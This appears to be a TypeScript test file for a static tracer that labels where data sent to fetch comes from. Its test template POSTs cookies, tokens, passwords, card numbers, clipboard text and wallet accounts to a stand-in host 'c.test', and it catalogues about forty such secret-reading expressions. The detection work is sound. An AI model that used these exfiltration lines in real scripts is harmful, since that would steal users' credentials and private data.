import { describe, expect, test } from "vitest";
import { traceOf } from "../testing/trace-of.ts";

/** What is read, and whose data it is. */
const READS = [
	["document.cookie", "document.cookie", "cookie"],
	["cookieStore", "(await cookieStore.getAll())", "cookie"],
	["GM_cookie", "(await GM.cookie.list({}))", "cookie"],
	["localStorage", "localStorage.getItem('a')", "storage"],
	["localStorage as an object", "localStorage.a", "storage"],
	["all of localStorage", "JSON.stringify(localStorage)", "storage"],
	["sessionStorage", "sessionStorage.a", "storage"],
	["a token in storage", "localStorage.getItem('access_token')", "token"],
	["GM_getValue", "GM_getValue('a')", "script-storage"],
	["a CSRF meta tag", "document.querySelector('meta[name=csrf-token]').content", "token"],
	["a page global", "unsafeWindow.accessToken", "token"],
	["a field", "document.querySelector('input').value", "form"],
	["a password field", "document.querySelector('input[type=password]').value", "password"],
	["a card field", "document.querySelector('[name=cardnumber]').value", "password"],
	["FormData", "JSON.stringify([...new FormData(document.forms[0])])", "form"],
	["the clipboard", "(await navigator.clipboard.readText())", "clipboard"],
	["the selection", "getSelection().toString()", "selection"],
	["text of the page", "document.body.innerText", "page"],
	["markup of the page", "document.documentElement.outerHTML", "page"],
	["a heading", "document.querySelector('h1').textContent", "page"],
	["the site's answer", "(await (await fetch('/api/me')).text())", "site-answer"],
	["the address", "location.href", "address"],
	["the title", "document.title", "address"],
	["the referrer", "document.referrer", "address"],
	["prompt", "prompt('Name?')", "answer"],
	["a password prompt", "prompt('Your password?')", "password"],
	["the screen", "screen.width", "device"],
	["the user agent", "navigator.userAgent", "device"],
	["a canvas", "document.createElement('canvas').toDataURL()", "device"],
	["a stranger's answer", "(await (await fetch('https://d.test/')).text())", "remote"],
	["a wallet", "(await ethereum.request({ method: 'eth_requestAccounts' }))", "wallet"],
	["document.all", "document.all[0].textContent", "page"],
	["XPath", "document.evaluate('//p', document).iterateNext().textContent", "page"],
	["a tree walker", "document.createTreeWalker(document.body).nextNode().textContent", "page"],
	["innerText of a child", "document.body.children[3].firstChild.innerText", "page"],
	["the page's state", "JSON.stringify(window.__INITIAL_STATE__)", "page"],
	["a number", "1", "nothing"],
	["a setting of its own", "GM_info.script.name", "nothing"],
	["the time", "Date.now()", "nothing"],
	["a resource", "GM_getResourceText('a')", "remote"],
] as const;

describe("origins", () => {
	test.each(READS)("%s", (_title, expression, kind) => {
		const code = `(async () => { fetch("https://c.test/", { method: "POST", body: ${expression} }); })();`;
		const sent = traceOf(code).sinks.find(({ destinations }) => destinations.some(({ host }) => host === "c.test"));
		const kinds = sent?.carried.map(({ origin }) => origin.kind) ?? [];
		expect(kinds).toEqual(kind === "nothing" ? [] : [kind]);
	});

	test("each step of the path is recorded, in order", () => {
		const code = 'const jar = document.cookie;\nfunction send(text) { fetch("https://c.test/?" + text); }\nsend(jar);';
		const steps = traceOf(code).sinks[0]?.carried[0]?.steps ?? [];
		expect(steps.map(({ description }) => description)).toEqual([
			"reads document.cookie",
			"kept in `jar`",
			"passed to a function",
			"kept in `text`",
			"handed to fetch",
		]);
		expect(steps.map(({ offset }) => code.slice(offset).split(/\W/)[0])).toEqual([
			"cookie",
			"jar",
			"send",
			"text",
			"fetch",
		]);
	});
});
